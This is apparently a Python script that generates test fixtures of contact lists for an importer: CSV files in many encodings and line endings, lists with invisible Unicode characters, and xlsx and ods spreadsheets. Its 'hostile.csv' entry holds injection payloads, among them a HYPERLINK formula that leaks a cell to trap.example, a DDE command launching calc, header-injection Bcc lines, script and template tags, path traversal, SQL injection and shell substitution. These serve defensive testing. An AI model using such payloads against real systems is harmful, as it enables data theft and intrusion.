"""Contact lists that no text editor writes: other encodings and line ends, unseen characters, spreadsheets.

Run as a program it writes them to tests/data/contacts, the same bytes each time. What a person expects of
each stands beside it, written by hand; so are the lists in plain UTF-8.
"""

from __future__ import annotations

import datetime
import io
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).parent / "data" / "contacts"


def dos(text: str) -> str:
    return text.replace("\n", "\r\n")


# Encodings -----------------------------------------------------------------------------------------

POLISH = """\
Imię i nazwisko;Adres e-mail;Klub parlamentarny;Państwo;Język;Płeć;Okręg
Zuzanna Wróblewska-Łęcka;z.wroblewska@wspolny-brzeg.example;Wspólny Brzeg;Polska;polski;kobieta;Łódź
Żegota Śliwiński;zegota@wspolny-brzeg.example;Wspólny Brzeg;Niemcy;niemiecki;mężczyzna;
"""
RUSSIAN = """\
Фамилия;Имя;Эл. почта;Партия;Страна;Город
Ковалёва;Анна;kovaleva@levy-bereg.example;Левый берег;Россия;Тверь
Ким;Иван;i.kim@archiv-step.example;Архив «Степь»;Казахстан;Алматы
Бекетова;Айгуль;beketova@jash-tolkun.example;Жаш толкун;Киргизия;Ош
Штерн;Мария;stern@levy-bereg.example;Левый берег;Германия;Кёльн
Лопатин;Егор;lopatin@svobodny-cech.example;Свободный цех;Россия;Пермь
Ясинская;Эльвира;yasinskaya@svobodny-cech.example;Свободный цех;Белоруссия;Гродно
"""
SHORT_RUSSIAN = "email;имя\nkovaleva@levy-bereg.example;Анна\n"
GERMAN = """\
Name;E-Mail;Partei
Jörg Sandvoß;joerg@neues-ufer.example;Neues Ufer
Bärbel Köhlbrandt;baerbel@gruene-bruecke.example;Grüne Brücke
"""
# Central European until the last name, to a quick eye.
LATE = (
    GERMAN
    + """\
Günter Höltje;guenter@neues-ufer.example;Neues Ufer
Íñigo Nuño;inigo@faro-comun.example;Faro Común
"""
)
TYPOGRAPHIC = """\
Name;E-Mail;Verein;Beitrag
Jörg Sandvoß;joerg@neues-ufer.example;„Neues Ufer“ – Ortsverein;12 €
Chloé L’Hermite;chloe@neues-ufer.example;„Neues Ufer“ …;8 €
"""
GREEK = """\
Ονοματεπώνυμο;Email;Κόμμα;Χώρα
Άννα Καραμπέτσου;anna@koini-akti.example;Κοινή Ακτή;Ελλάδα
Στέλιος Μαυρογένης;stelios@koini-akti.example;Κοινή Ακτή;Κύπρος
Ευγενία Λιβαδά;evgenia@anoichti-thalassa.example;Ανοιχτή Θάλασσα;Ελλάδα
Άρης Ψαρουδάκης;aris@anoichti-thalassa.example;Ανοιχτή Θάλασσα;Βέλγιο
"""
JAPANESE = """\
氏名,メールアドレス,所属政党,国,性別
水野 梓,azusa.mizuno@minna-no-kishi.example,みんなの岸,日本,女性
高瀬 亮太,ryota.takase@minna-no-kishi.example,みんなの岸,日本,男性
朴 志勲,jihun.park@hirakareta-minato.example,ひらかれた港,韓国,男性
西園寺 しおり,shiori.saionji@hirakareta-minato.example,ひらかれた港,日本,女性
"""
CZECH = """\
Jméno a příjmení;E-mail;Strana;Země
Zdeňka Šírková;zdenka.sirkova@spolecny-breh.example;Společný břeh;Česko
Tomáš Řehounek;tomas.rehounek@spolecny-breh.example;Společný břeh;Slovensko
"""
MIXED = "name\temail\tparty\tcountry\nZofia Brzęk\tzofia@wspolny-brzeg.example\tWspólny Brzeg\tPoland\n"
MIXED += "ليلى بن عيسى\tlayla@assaha.example\tالساحة المفتوحة\tTunisia\n"
MIXED += "Άννα Λιβαδά\tanna@koini-akti.example\tΚοινή Ακτή\tGreece\n"
ENGLISH = """\
name,email,party,country
Ann Lee,ann@tidewater.example,Tidewater,GB
Zoë Brontsema,zoe@vrij-getij.example,Vrij Getij,NL
"""
# What a program writes that joins a list in UTF-8 with a row out of an older file.
PATCHED = GERMAN.encode() + "Käthe Oltmanns;kaethe@neues-ufer.example;Neues Ufer\n".encode("cp1252")
PATCHED += "Mirko Brünn;mirko@neues-ufer.example;Neues Ufer\n".encode()

# Characters that nobody sees ------------------------------------------------------------------------

UNSEEN = "\n".join(
    (
        "email,name,organisation",
        "\u200bann@tidewater.example,Ann Lee,Tidewater",
        "\u00a0bo@tidewater.example\u00a0,Bo\u00a0Ray,Tidewater\u00a0Mills",
        "cy@tide\u00adwater.example\u200e,Cy  Dale,",
        "\ufeffdi@tidewater.example,Di Frost,",
        "ali@saheli-azad.example,\u0639\u0644\u06cc\u200c\u0631\u0636\u0627 \u062f\u0647\u0642\u0627\u0646,",
        unicodedata.normalize("NFD", "jürgen@neues-ufer.example,Jürgen Köhl,Grüne Brücke"),
        "",
    )
)
HOSTILE = "\n".join(
    (
        "email,name,organisation,note",
        'ann@tidewater.example,"=HYPERLINK(""https://trap.example/?""&A1,""Ann"")",Tidewater,',
        "bo@tidewater.example,Bo Ray,@SUM(1+9)*cmd|' /C calc'!A0,-2+3",
        "cy@tidewater.example,Cy\x1b[31m Dale\x07,Tide\x08water,",
        "di@tidewater.example,Di \u202etsorF\u202c,Tide\u2066water,",
        '"ed@tidewater.example\r\nBcc: everybody@tidewater.example",Ed Moor,,',
        'fay@tidewater.example,"Fay Gill\r\nBcc: everybody@tidewater.example",,',
        "gil@tidewater.example%0ABcc:everybody@tidewater.example,Gil Hart,,",
        "hal@tidewater.example,{{ sender }}{% for x in y %},<script>alert(1)</script>,[a](javascript:b)",
        f"ida@tidewater.example,Ida Jost,,{'0123456789' * 500}",
        f"{'j' * 5000}@tidewater.example,Jo Lund,,",
        "kim@tidewater.example,../../etc/passwd,'; DROP TABLE contacts; --,%s%n${HOME}`id`",
        "",
    )
)

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"

# Spreadsheets --------------------------------------------------------------------------------------


def members() -> bytes:
    """Sheets with titles, numbers and dates, one without addresses, one hidden."""
    out = io.BytesIO()
    book = _workbook(out)
    day = book.add_format({"num_format": "dd.mm.yyyy"})
    share = book.add_format({"num_format": "0.0 %"})
    sheet = book.add_worksheet("Abgeordnete")
    sheet.merge_range(0, 0, 0, 7, "Abgeordnete der Küstenkammer", book.add_format({"bold": True}))
    sheet.write_row(1, 0, ["Stand:", None])
    sheet.write_datetime(1, 1, datetime.datetime(2026, 11, 3), day)
    sheet.write_row(3, 0, ["Nr.", "Name", "E-Mail", "Fraktion", "Land", "Gewählt am", "Telefon", "Anteil"])
    rows = [
        (1, "Jana Köhlbrandt", "jana@neues-ufer.example", "Neues Ufer", "Deutschland"),
        (2, "Emre Yıldız", "emre@rote-bruecke.example", "Rote Brücke", "Österreich"),
        (3, "Kim Sandvoss", "kim@rote-bruecke", "Rote Brücke", "Schweiz"),
    ]
    for n, row in enumerate(rows):
        at = n + 4 if n < 2 else n + 5  # an empty row before the last one
        sheet.write_row(at, 0, row)
        sheet.write_datetime(at, 5, datetime.datetime(2024, 9, 22 + n), day)
        sheet.write_number(at, 6, 493055501234 + n)
        sheet.write_number(at, 7, (0.314, 0.414, 0.272)[n], share)
    sheet = book.add_worksheet("Parteien")
    sheet.write_row(0, 0, ["Partei", "E-Mail", "Land"])
    sheet.write_row(1, 0, ["Neues Ufer"])
    sheet.write_url(1, 1, "mailto:kontakt@neues-ufer.example", string="kontakt@neues-ufer.example")
    sheet.write_string(1, 2, "DE")
    sheet.write_row(2, 0, ["Rote Brücke", "Büro <buero@rote-bruecke.example>", "Austria"])
    sheet = book.add_worksheet("Notizen")
    sheet.write_row(0, 0, ["Wer ruft an?", "bis wann"])
    sheet.write_row(1, 0, ["Hanne", "Freitag"])
    sheet = book.add_worksheet("intern")
    sheet.write_row(0, 0, ["Name", "E-Mail"])
    sheet.write_row(1, 0, ["Tilda Brook", "tilda@geheim.example"])
    sheet.hide()
    book.close()
    return out.getvalue()


def offset() -> bytes:
    """A table that begins in the middle of the sheet, with formulas, yes and no, and an error."""
    out = io.BytesIO()
    book = _workbook(out)
    sheet = book.add_worksheet("Tabelle1")
    sheet.write_row(2, 1, ["First name", "Last name", "E-mail", "Active", "Number", "City"])
    sheet.write_row(3, 1, ["Ann", "Lee"])
    formula = '=LOWER(B4)&"@tidewater.example"'
    sheet.write_formula(3, 3, formula, value="ann@tidewater.example")
    sheet.write_boolean(3, 4, True)
    sheet.write_number(3, 5, 3.0)
    sheet.write_formula(3, 6, "=VLOOKUP(B4,X1:Y9,2,0)", value="#N/A")
    sheet.write_row(4, 1, ["Bo", "Ray", " bo@tidewater.example"])
    sheet.write_boolean(4, 4, False)
    sheet.write_number(4, 5, 2.5)
    sheet.write_string(4, 6, "Québec\nLévis")
    book.close()
    return out.getvalue()


def _workbook(out: io.BytesIO) -> xlsxwriter.Workbook:
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    book.set_properties({"created": datetime.datetime(2026, 11, 1)})
    return book


ODS_HEAD = """\
<?xml version="1.0" encoding="UTF-8"?>
<office:document-content
 xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 office:version="1.3">
<office:automatic-styles>
<style:style style:name="shown" style:family="table">
<style:table-properties table:display="true"/></style:style>
<style:style style:name="hidden" style:family="table">
<style:table-properties table:display="false"/></style:style>
</office:automatic-styles>
<office:body><office:spreadsheet>
"""
ODS_MANIFEST = """\
<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest
 xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">
<manifest:file-entry manifest:full-path="/"
 manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>
"""


def coalition() -> bytes:
    """Rows and cells that stand for several, dates and numbers, two paragraphs in a cell, a hidden sheet."""

    def text(*paragraphs: str) -> str:
        inside = "".join(f"<text:p>{one}</text:p>" for one in paragraphs)
        return f'<table:table-cell office:value-type="string">{inside}</table:table-cell>'

    def row(*cells: str, times: int = 1) -> str:
        many = f' table:number-rows-repeated="{times}"' if times > 1 else ""
        return f"<table:table-row{many}>{''.join(cells)}</table:table-row>\n"

    def sheet(name: str, style: str, *rows: str) -> str:
        return (
            f'<table:table table:name="{name}" table:style-name="{style}">\n{"".join(rows)}</table:table>\n'
        )

    gap = '<table:table-cell table:number-columns-repeated="{}"/>'
    date = (
        '<table:table-cell office:value-type="date" office:date-value="2026-05-01">'
        "<text:p>01/05/26</text:p></table:table-cell>"
    )
    number = (
        '<table:table-cell office:value-type="float" office:value="1250">'
        "<text:p>1 250</text:p></table:table-cell>"
    )
    body = sheet(
        "Organisations",
        "shown",
        row(text("Coalition « Rives ouvertes »"), gap.format(5)),
        row(gap.format(6), times=2),
        row(*map(text, ("Association", "Courriel", "Pays", "Adhésion", "Membres", "Adresse"))),
        row(
            text("Horizon partagé"), text("contact@horizon-partage.example"), text("France"), date, number,
            text("4 quai des Brumes", "29200 Brest"),
        ),
        row(text("Ayni Popular"), text("prensa@ayni.example"), text("Bolivie"), gap.format(3)),
        row(gap.format(6), times=20),
        row(text("Vrij Getij"), text("info@vrij-getij.example"), text("Pays-Bas"), gap.format(1018)),
        row(gap.format(1024), times=1_048_000),
    )  # fmt: skip
    body += sheet("archives", "hidden", row(text("E-mail")), row(text("ancien@horizon-partage.example")))
    content = f"{ODS_HEAD}{body}</office:spreadsheet></office:body></office:document-content>\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        parts = (
            ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
            ("META-INF/manifest.xml", ODS_MANIFEST),
            ("content.xml", content),
        )
        for name, data in parts:
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 1, 0, 0, 0)), data)
    return out.getvalue()


# All of them ---------------------------------------------------------------------------------------

LISTS: dict[str, Callable[[], bytes]] = {
    "utf8-mark.csv": lambda: dos(GERMAN).encode("utf-8-sig"),
    "excel-unicode.txt": lambda: b"\xff\xfe" + dos(MIXED).encode("utf-16-le"),
    "utf16-big-endian.csv": lambda: b"\xfe\xff" + CZECH.encode("utf-16-be"),
    "utf16-no-mark.csv": lambda: dos(ENGLISH).encode("utf-16-le"),
    "utf16-no-mark-czech.csv": lambda: CZECH.encode("utf-16-be"),
    "utf16-no-mark-cyrillic.csv": lambda: RUSSIAN.encode("utf-16-le"),
    "cp1251-long.csv": lambda: dos(RUSSIAN).encode("cp1251"),
    "cp1251-short.csv": lambda: dos(SHORT_RUSSIAN).encode("cp1251"),
    "cp1251-named.csv": lambda: dos(SHORT_RUSSIAN).encode("cp1251"),
    "koi8-r-long.csv": lambda: RUSSIAN.replace("«", '"').replace("»", '"').encode("koi8-r"),
    "cp1252-short.csv": lambda: dos(GERMAN).encode("cp1252"),
    "cp1252-late.csv": lambda: dos(LATE).encode("cp1252"),
    "cp1252-named.csv": lambda: dos(TYPOGRAPHIC).encode("cp1252"),
    "cp1250-named.csv": lambda: dos(POLISH).encode("cp1250"),
    "greek-long.csv": lambda: dos(GREEK).encode("cp1253"),
    "shift-jis-long.csv": lambda: dos(JAPANESE).encode("shift_jis"),
    "wrong-encoding-named.csv": lambda: GERMAN.encode("cp1252"),
    "two-encodings.csv": lambda: PATCHED,
    "old-mac.csv": lambda: ENGLISH.replace("\n", "\r").encode(),
    "unseen.csv": lambda: UNSEEN.encode(),
    "hostile.csv": lambda: HOSTILE.encode(),
    "picture.csv": lambda: PNG,
    "members.xlsx": members,
    "offset.xlsx": offset,
    "coalition.ods": coalition,
}


def main() -> None:
    for name, make in LISTS.items():
        (HERE / name).write_bytes(make())


if __name__ == "__main__":
    main()
